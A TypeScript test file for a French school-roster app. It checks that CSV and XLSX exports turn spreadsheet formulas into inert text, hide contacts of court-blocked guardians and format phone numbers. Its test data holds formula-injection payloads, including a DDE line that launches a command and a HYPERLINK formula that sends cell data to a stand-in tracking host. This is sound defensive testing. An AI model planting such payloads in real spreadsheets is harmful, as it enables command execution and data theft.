import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import * as XLSX from '@e965/xlsx'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { packTexts } from '../../../electron/packs/page/texts.ts'
import { rosterTable } from '../../../electron/packs/roster-table.ts'
import { neutraliseCell, toCsv } from '../../../electron/platform/csv.ts'
import { toXlsx } from '../../../electron/platform/spreadsheet.ts'
import { guardian, NOW, pupil } from '../../helpers/packs-content.ts'
import { needProgram, run, temporaryFolder } from '../../helpers/packs-tools.ts'

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  ' =1+1',
  '\n=1+1',
  '＝1+1',
  '=HYPERLINK("https://pistage.example/?n="&A1;"Cliquez")',
  "=cmd|'/c calc'!A0",
]

const table = [['Nom', 'Note'], ...FORMULAS.map((formula) => [formula, 'é;"à"\nœ'])]

const texts = packTexts('fr')
const phone = (value: string) => ({
  id: 1,
  kind: 'phone' as const,
  value,
  label: null,
  verified: false,
  bounced: false,
})

describe('CSV', () => {
  it('is what a French spreadsheet opens right: mark, semicolons, CRLF, quotes doubled', () => {
    const bytes = toCsv([
      ['Nom', 'Prénom'],
      ['D"ARC', 'Éloïse; Zoé'],
    ])
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder().decode(bytes)).toBe('"Nom";"Prénom"\r\n"D""ARC";"Éloïse; Zoé"\r\n')
  })

  it('reads back cell for cell, formulas made inert by an apostrophe', () => {
    const rows: string[][] = parse(Buffer.from(toCsv(table)), { bom: true, delimiter: ';', record_delimiter: '\r\n' })
    expect(rows).toEqual([['Nom', 'Note'], ...FORMULAS.map((formula) => [`'${formula}`, 'é;"à"\nœ'])])
  })

  it('leaves numbers, dates and honest text alone', () => {
    for (const cell of [
      '-2',
      '+3,5',
      '12.5',
      '07/03/2012',
      '06 39 98 00 12',
      "L'ISLE",
      'a=b',
      'a-b',
      'x@y.example',
      '',
    ])
      expect(neutraliseCell(cell)).toBe(cell)
  })
})

describe('spreadsheet', () => {
  it('holds typed strings only, never a formula', () => {
    const book = XLSX.read(toXlsx(table, '3e A', new Date(NOW)), { type: 'array', cellFormula: true, cellNF: true })
    const sheet = book.Sheets['3e A'] ?? {}
    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'))
    expect(cells).toHaveLength(table.length * 2)
    for (const [, cell] of cells) expect(cell).toMatchObject({ t: 's', z: '@' })
    expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([])
    expect(sheet.A2?.v).toBe('=1+1')
  })

  it('takes any class name for its sheet', () => {
    for (const name of ["'3e/A*[?]", '', 'x'.repeat(80), '\u2019'])
      expect(XLSX.read(toXlsx(table, name, new Date(NOW)), { type: 'array' }).SheetNames).toHaveLength(1)
  })
})

describe('in LibreOffice', () => {
  const convert = (name: string, data: Uint8Array): string => {
    const folder = temporaryFolder()
    const source = join(folder, name)
    writeFileSync(source, data)
    const out = join(folder, 'out')
    mkdirSync(out)
    // Flat OpenDocument: every cell with its type and formula, as text.
    const filter = name.endsWith('.csv') ? ['--infilter=CSV:59,34,76,1'] : []
    const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`
    const done = run('soffice', profile, '--headless', ...filter, '--convert-to', 'fods', '--outdir', out, source)
    expect(done.output).toContain('convert')
    return readFileSync(join(out, name.replace(/\.\w+$/, '.fods')), 'utf8')
  }

  it.for(['roster.csv', 'roster.xlsx'])('%s opens with every cell as text', { timeout: 240_000 }, (name, context) => {
    needProgram(context, 'soffice', '--version')
    // XML cannot hold NUL: LibreOffice drops it on opening.
    const sound = table.filter((row) => !(row[0] ?? '').includes('\u0000'))
    const opened = convert(name, name.endsWith('.csv') ? toCsv(sound) : toXlsx(sound, '3e A', new Date(NOW)))
    expect(opened).not.toContain('table:formula')
    expect(opened).not.toContain('office:value-type="float"')
    expect(opened.match(/office:value-type="string"/g)?.length).toBeGreaterThanOrEqual(sound.length * 2)
    expect(opened).toContain('=1+1')
  })
})

describe('the roster as a table', () => {
  it('has one line per pupil and room for every guardian', () => {
    const three = pupil({ guardians: [guardian(), guardian({ givenName: 'Ambroise' }), guardian()] })
    const { header, rows } = rosterTable([pupil({ guardians: [] }), three], texts)
    expect(header.slice(0, 4)).toEqual(['Nom', 'Prénom', 'Né(e) le', 'Classe'])
    expect(header.filter((name) => name.startsWith('Responsable'))).toHaveLength(3)
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([header.length]))
  })

  it('gives neither number nor address of a guardian whom a court forbids to contact', () => {
    const { rows } = rosterTable([pupil({ contactPoints: [], guardians: [guardian({ courtBlock: true })] })], texts)
    const line = rows.flat().join('|')
    expect(line).toContain('NE PAS CONTACTER')
    expect(line).not.toContain('marjolaine.q@')
    expect(line).not.toMatch(/06 39/)
  })

  it('writes phones as they are dialled in France, and none that begins like a formula', () => {
    const points = [phone('+33639980012'), phone('+262692000001'), phone('+32470000001'), phone('poste 12')]
    const { rows } = rosterTable([pupil({ contactPoints: points, guardians: [] })], texts)
    expect(rows[0]?.[4]).toBe('06 39 98 00 12 / 06 92 00 00 01 / 0032470000001 / poste 12')
  })
})
